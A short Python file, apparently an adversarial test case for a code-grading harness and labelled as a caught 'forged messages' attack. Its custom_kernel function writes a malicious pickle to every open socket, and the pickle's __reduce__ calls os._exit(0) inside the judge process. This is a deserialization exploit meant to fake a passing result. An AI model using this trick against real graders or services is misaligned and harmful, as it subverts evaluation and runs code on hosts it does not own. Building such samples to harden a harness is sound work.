"""Sends the judge a pickle that would run code there."""
# kind: forged messages
# caught: not a reply

import os
import pickle
import stat


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def custom_kernel(data):
    for fd in map(int, os.listdir("/proc/self/fd")):
        if os.path.exists(f"/proc/self/fd/{fd}") and stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, pickle.dumps(Bomb()) + b"\n")
    return [c for _, _, c in data[0]]
